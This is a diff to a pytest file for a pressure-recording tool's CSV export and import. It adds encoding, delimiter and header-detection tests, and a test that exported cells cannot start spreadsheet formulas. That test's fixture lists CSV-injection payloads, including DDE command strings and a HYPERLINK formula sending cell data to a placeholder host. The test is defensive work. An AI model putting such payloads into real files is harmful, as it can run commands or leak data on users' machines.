@@ -40,8 +40,8 @@ def test_export_has_metadata_header_columns_and_markers(tmp_path):
     rec = make_session(tmp_path / "s.pressure")
     out = export_csv(rec, tmp_path / "s.csv", unit="kgf")
     text = out.read_text(encoding="utf-8")
-    assert '# labels: {"client": "Ann, #1"' in text
-    assert '# event: 1.000000 marker "spot #2, left"' in text
+    assert '# labels: {"client": "Ann\\u002c #1"' in text  # a comma in text stays in its cell
+    assert '# event: 1.000000 marker "spot #2\\u002c left"' in text
     header, rows = read_export(out)
     assert header == ["time_s", "raw", "force_kgf", "smoothed_kgf", "zone", "marker"]
     assert len(rows) == len(rec)
@@ -369,3 +369,81 @@ def test_clock_time_stamps(tmp_path):
     assert trace.report.force_unit == "kgf" and trace.report.skipped == 1
     src.write_text("time;N\n10:00:00.5;1\n10:00:01.5;2\n10:00:02.5;3\n")
     np.testing.assert_allclose(read_csv(src).t, [0, 1, 2])
+
+
+HOSTILE = ["=1+1", "+cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?a="&A1,"click")',
+           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\t=1+1", "\r=1+1", "x,=1+1", 'a","=1+1']
+
+
+def test_export_cells_never_start_a_formula(tmp_path):
+    """Markers, labels, event texts and metadata written so no spreadsheet cell runs a formula."""
+    t = np.arange(2000) / 1000.0
+    force = -5.0 + 10.0 * t  # negative numbers must stay numbers
+    meta = {"unit": "N", "labels": {h: h for h in HOSTILE}, "note": HOSTILE,
+            "=1+1, =2+2": "x, =3+3"}
+    src = tmp_path / "h.pressure"
+    with RecordingWriter(src, meta) as w:
+        w.append(Block.make(t, force, force))
+        for i, h in enumerate(HOSTILE):
+            w.add_event(0.1 * (i + 1), "marker", h)
+            w.add_event(0.1 * (i + 1) + 0.01, "note", h)
+    out = export_csv(open_recording(src), tmp_path / "h.csv")
+    with open(out, newline="", encoding="utf-8") as f:
+        cells = [c for row in csv.reader(f) for c in row]
+    bad = [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))
+           or (c.startswith("-") and not _is_number(c))]
+    assert bad == []
+    header, rows = read_export(out)
+    assert any(r[2].startswith("-") for r in rows)  # a negative force is still a number
+    markers = [r[5] for r in rows if r[5]]
+    assert "'=1+1" in markers and "'+cmd|' /C calc'!A0" in markers
+    import_csv(out, tmp_path / "back.pressure")  # our own import reads the text back
+    back = open_recording(tmp_path / "back.pressure")
+    assert {"=1+1", "+cmd|' /C calc'!A0", "x,=1+1"} <= {e.text for e in back.markers}
+    assert back.meta["labels"]["x,=1+1"] == "x,=1+1"
+
+
+def _is_number(text):
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
+
+
+@pytest.mark.parametrize("first", ["0.00,nan", "0.00,", "0.00,NaN", "0.00,NA"])
+def test_import_finds_the_header_when_the_first_row_misses_a_value(tmp_path, first):
+    """issue 15: ``time,force`` / ``0.00,nan`` gave "found no time column"."""
+    src = tmp_path / "gap.csv"
+    src.write_text("time,force\n" + first + "\n" + "".join(f"{i / 100:.2f},{i}\n" for i in range(1, 50)))
+    report = import_csv(src, tmp_path / "gap.pressure")
+    assert report.header_line == 1 and report.time_column == "time"
+    assert report.rows == 49 and report.skipped == 1
+    report = import_csv(src, tmp_path / "gap2.pressure", time_column="time", force_column="force")
+    assert report.rows == 49
+
+
+@pytest.mark.parametrize("encoding, bom, delim, said", [
+    ("utf-8", b"", ",", "UTF-8"), ("utf-8", b"\xef\xbb\xbf", ",", "UTF-8"),
+    ("utf-16-le", b"\xff\xfe", "\t", "UTF-16"), ("cp1252", b"", ",", "Windows-1252")])
+def test_import_reads_the_encodings_people_have(tmp_path, encoding, bom, delim, said):
+    """issue 15: cp1252 names became 'M\ufffdller'; UTF-16 with a BOM was refused as binary."""
+    text = f"# client: Müller\ntime{delim}force\n" + "".join(
+        f"{i / 100:.2f}{delim}{i}\n" for i in range(50))
+    src = tmp_path / "enc.csv"
+    src.write_bytes(bom + text.encode(encoding))
+    trace = read_csv(src)
+    assert len(trace.t) == 50
+    assert any(said in n for n in trace.report.notes)
+    assert "Müller" in str(trace.report.metadata)
+
+
+def test_import_reads_a_european_excel_file_and_says_so(tmp_path):
+    """issue 15: ';' between cells and decimal commas (0,5;12,3)."""
+    src = tmp_path / "eu.csv"
+    src.write_text("time;force_N\n" + "".join(
+        f"{i / 100:.2f};{i + 0.5:.1f}\n".replace(".", ",") for i in range(50)), encoding="utf-8")
+    trace = read_csv(src)
+    np.testing.assert_allclose(trace.value[:3], [0.5, 1.5, 2.5])
+    np.testing.assert_allclose(trace.t[:3], [0.0, 0.01, 0.02])
+    assert any("';'" in n and "decimal commas" in n for n in trace.report.notes)
